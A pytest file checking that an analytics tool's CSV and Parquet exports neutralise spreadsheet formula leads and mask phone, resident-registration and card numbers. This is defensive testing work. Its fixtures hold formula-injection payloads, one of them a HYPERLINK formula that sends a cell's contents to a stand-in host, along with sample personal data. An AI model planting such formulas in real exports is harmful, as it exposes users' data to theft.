"""Every export goes through one safe writer (issue 23, items 7 and 9): formula leads neutralised, UTF-8 with a BOM,
personal data masked in every free-text column, and report.py's invalid values masked on stderr."""

import csv
import datetime as dt
import io

import polars as pl
import pytest

import report
from metrics.exports import csv_bytes, parquet_bytes

HOSTILE_IDS = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+SUM(A1:A9)", "-2+3", "@SUM(A1)", "\tcmd", "\r=1",
               "\n=1", "  =1+1", "\u3000+1", "＝1+1", "＋1", "－1", "＠SUM(A1)", "C-001", "김민수"]
NEUTRAL = [f"'{v}" for v in HOSTILE_IDS[:-2]] + ["C-001", "김민수"]


def test_every_formula_lead_is_neutralised_and_other_cells_are_kept():
    data = csv_bytes(pl.DataFrame({"customer_id": HOSTILE_IDS, "n": range(len(HOSTILE_IDS))}))
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert [r[0] for r in rows[1:]] == NEUTRAL
    assert [r[1] for r in rows[1:]] == [str(i) for i in range(len(HOSTILE_IDS))]  # numbers are not text: kept


def test_free_text_columns_are_masked_and_identifiers_kept():
    frame = pl.DataFrame({"journey_id": ["J-01012345678"], "customer_id": ["01012345678"],
                          "memo": ["주민번호 900101-1234567, 전화 010-1234-5678"], "stage": ["가입"]})
    text = csv_bytes(frame).decode("utf-8-sig")
    assert text.splitlines()[1] == "J-01012345678,01012345678,\"주민번호 ******-*******, 전화 ***-****-****\",가입"
    back = pl.read_parquet(io.BytesIO(parquet_bytes(frame)))
    assert back["memo"].to_list() == ["주민번호 ******-*******, 전화 ***-****-****"]
    assert back["customer_id"].to_list() == ["01012345678"]


@pytest.fixture()
def hostile_events(tmp_path, monkeypatch):
    """Three journeys whose customer ids are formulas, a memo column with phone and RRN numbers, a detractor."""
    monkeypatch.setenv("CXLENS_CACHE_DIR", str(tmp_path / "cache"))
    path = tmp_path / "events.parquet"
    base = dt.datetime(2026, 3, 1, 9)
    pl.DataFrame({
        "journey_id": ["J1", "J1", "J2", "J3"],
        "customer_id": ['=HYPERLINK("http://x.example","x")', '=HYPERLINK("http://x.example","x")', "@SUM(A1)",
                        "고객3"],
        "timestamp": [base, base + dt.timedelta(hours=1), base, base],
        "stage": ["가입", "이용", "가입", "가입"], "channel": ["앱", "웹", "앱", "웹"],
        "nps": [None, 2, 9, 5],
        "comment": [None, "전화 010-1234-5678 주세요", None, "별로"],
        "memo": ["주민번호 900101-1234567", "연락처 010-9876-5432", "메모 없음", "카드 4111 1111 1111 1111"],
    }).write_parquet(path)
    return path


def test_the_detractors_csv_is_safe_and_masked(hostile_events, tmp_path, capsys):
    out = tmp_path / "detractors.csv"
    assert report.main([str(hostile_events), "--detractors", str(out)]) == 0
    capsys.readouterr()
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    text = data.decode("utf-8-sig")
    assert "010-1234-5678" not in text and "***-****-****" in text
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert {r["customer_id"] for r in rows} == {"'=HYPERLINK(\"http://x.example\",\"x\")", "고객3"}


def test_personas_out_neutralises_formula_ids_and_has_a_bom(hostile_events, tmp_path, capsys):
    out = tmp_path / "personas.csv"
    assert report.main([str(hostile_events), "--personas", "2", "--personas-out", str(out)]) == 0
    capsys.readouterr()
    data = out.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0] == ["customer_id", "persona"]
    assert sorted(r[0] for r in rows[1:]) == sorted(["'=HYPERLINK(\"http://x.example\",\"x\")", "'@SUM(A1)", "고객3"])


def test_the_events_download_masks_every_free_text_column(hostile_events):
    from store import Filters, open_dataset
    from ui.upload import events_parquet

    exported = pl.read_parquet(io.BytesIO(events_parquet(open_dataset(hostile_events), Filters())))
    memo = exported.sort("journey_id", "timestamp")["memo"].to_list()
    assert memo == ["주민번호 ******-*******", "연락처 ***-****-****", "메모 없음", "카드 ****-****-****-****"]
    assert "***-****-****" in " ".join(exported["comment"].drop_nulls())


def test_report_masks_an_invalid_value_on_stderr(tmp_path, capsys, monkeypatch):
    monkeypatch.setenv("CXLENS_CACHE_DIR", str(tmp_path / "cache"))
    path = tmp_path / "survey.csv"
    path.write_text("journey_id,timestamp,stage,channel,satisfaction\n"
                    "J1,2026-03-01 09:00,가입,앱,010-1234-5678 연락주세요\n"
                    "J2,2026-03-01 09:00,가입,앱,4\nJ3,2026-03-01 09:00,가입,앱,5\n", encoding="utf-8")
    assert report.main([str(path), "--accept-invalid"]) == 0
    err = capsys.readouterr().err
    assert "010-1234-5678" not in err and "row 2: satisfaction '***-****-**** 연락주세요'" in err
